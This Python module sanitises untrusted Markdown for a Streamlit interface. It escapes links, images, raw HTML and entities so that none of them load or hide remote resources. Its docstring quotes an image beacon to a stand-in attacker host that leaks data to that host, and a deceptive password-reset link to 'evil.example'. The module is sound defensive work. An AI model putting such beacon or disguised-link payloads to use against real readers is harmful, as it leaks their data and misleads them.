"""Untrusted text (answers, quoted passages, titles, channel names) made safe for `st.markdown`.

Documents and Slack messages are written by anyone who can upload or post. Rendered as Markdown as they are, a
passage with `![x](http://attacker/beacon.png?leak=…)` makes every reader's browser fetch the attacker's URL,
and `[Reset your password](http://evil.example)` hides where a link goes. So untrusted text keeps only an
allow-list of Markdown — emphasis, lists, headings, code — and everything that could load or hide a remote
resource is turned into visible text:

- a ">" that starts a line stays a block quote (the extractive answerer quotes its passages that way);
- images become `[image: alt — host]` (never fetched);
- links become `label (url)`, so the real address is on screen (a bare http(s) URL stays clickable as itself);
- raw HTML and autolinks (`<…>`), link brackets and entity tricks are escaped and show as typed.

Escaping is character-local, so streamed pieces can be escaped one by one (`escape_markdown`) and the final
text rendered with `safe_markdown`.
"""
from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from urllib.parse import urlsplit

# Markdown punctuation that can start a link, image, raw HTML, autolink, entity or reference definition.
# Emphasis (*, _), list markers, headings and code keep their meaning (the allow-list).
_ESCAPE = re.compile(r"([\\\[\]()<>!&])")
_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{0,2000})>?(?:\s+\"[^\"\n]*\")?\s*\)")
_LINK = re.compile(r"\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{0,2000})>?(?:\s+\"[^\"\n]*\")?\s*\)")
_REF_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\[[^\]\n]{0,200}\]")
# A bare http(s) URL, which the UI's Markdown (GFM) turns into a link showing itself. GFM ends such a link only at
# whitespace or "<", not at a backslash escape: "http://x.example\>" would link to "http://x.example%5C%3E" and
# show the backslash. So a bare URL is left as typed and the character right after it is written as a named
# entity, which does end the link ("&gt;" renders as ">").
_BARE_URL = re.compile(r"https?://[^\s<>\"'`\\\x00\x01]+", re.IGNORECASE)
# ">" markers at the start of a line (after escaping): a block quote, which loads and hides nothing
_QUOTE_MARKERS = re.compile(r"^( {0,3})((?:\\> ?)+)", re.MULTILINE)
_ENTITY = {"<": "&lt;", ">": "&gt;", "\\": "&bsol;", "&": "&amp;", "!": "&excl;", "(": "&lpar;", ")": "&rpar;",
           "[": "&lsqb;", "]": "&rsqb;"}


def host_of(url: str) -> str:
    """The host a URL really points at ('' when it has none, e.g. javascript: or a relative path)."""
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return ""
    return (parts.hostname or "").lower()


def escape_markdown(text: str) -> str:
    """Every character that could open a link, image, HTML tag, autolink or entity, backslash-escaped."""
    return _ESCAPE.sub(r"\\\1", text or "")


def escape_text(text: str | None) -> str:
    """`escape_markdown` for a whole text: the same, except that a bare http(s) URL is left as typed and the
    character after it written as a named entity, so the link GFM makes of it ends where the URL does."""
    text = text or ""
    out, pos = [], 0
    for m in _BARE_URL.finditer(text):
        out.append(escape_markdown(text[pos:m.start()]) + m.group(0))
        pos = m.end()
        if pos < len(text) and text[pos] in _ENTITY:
            out.append(_ENTITY[text[pos]])
            pos += 1
    out.append(escape_markdown(text[pos:]))
    return "".join(out)


def _image_text(m: re.Match) -> str:
    alt, url = m.group(1).strip(), m.group(2)
    host = host_of(url)
    return f"\x00image: {alt or 'no description'}{' — ' + host if host else ''}\x01"


def _link_text(m: re.Match) -> str:
    label, url = m.group(1).strip(), m.group(2).strip()
    if urlsplit(url).scheme.lower() in ("http", "https") and host_of(url):
        return f"{label} ({url})" if label and label != url else url
    return f"{label} (link removed: {url[:80]})" if url else label


def safe_markdown(text: str | None) -> str:
    """Allow-listed Markdown for untrusted text: no remote images, no raw HTML, every link showing its host."""
    text = text or ""
    text = _IMAGE.sub(_image_text, text)
    text = _REF_IMAGE.sub(lambda m: f"\x00image: {m.group(1).strip() or 'no description'}\x01", text)
    text = _LINK.sub(_link_text, text)
    text = _QUOTE_MARKERS.sub(lambda m: m.group(1) + m.group(2).replace("\\>", ">"), escape_text(text))
    # the image placeholders' brackets are our own: shown as literal, escaped brackets
    return text.replace("\x00", "\\[").replace("\x01", "\\]")


def safe_stream(pieces: Iterable[str]) -> Iterator[str]:
    """Streamed answer pieces, escaped one by one (links show as typed until the final render)."""
    for piece in pieces:
        yield escape_markdown(piece)


def safe_link(label: str, url: str | None) -> str | None:
    """A Markdown link for a citation URL we display ourselves: only http(s), with the real host in the label."""
    if not url or urlsplit(url.strip()).scheme.lower() not in ("http", "https") or not host_of(url):
        return None
    clean = url.strip().replace(")", "%29").replace("(", "%28").replace(" ", "%20")
    return f"[{escape_markdown(label)} ↗ {escape_markdown(host_of(url))}]({clean})"
